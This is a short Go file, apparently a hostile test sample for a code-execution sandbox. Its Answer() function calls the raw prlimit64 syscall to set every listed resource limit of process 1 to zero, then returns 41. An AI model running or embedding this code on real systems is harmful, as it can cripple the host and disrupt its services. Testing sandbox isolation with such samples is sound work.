package attack

import (
	"syscall"
	"unsafe"
)

const sysPrlimit64 = 302

func Answer() int {
	none := [2]uint64{}
	for _, resource := range []uintptr{syscall.RLIMIT_NOFILE, syscall.RLIMIT_AS, syscall.RLIMIT_DATA, syscall.RLIMIT_STACK, syscall.RLIMIT_FSIZE, syscall.RLIMIT_CPU, 6} {
		syscall.RawSyscall6(sysPrlimit64, 1, resource, uintptr(unsafe.Pointer(&none)), 0, 0, 0)
	}
	return 41
}
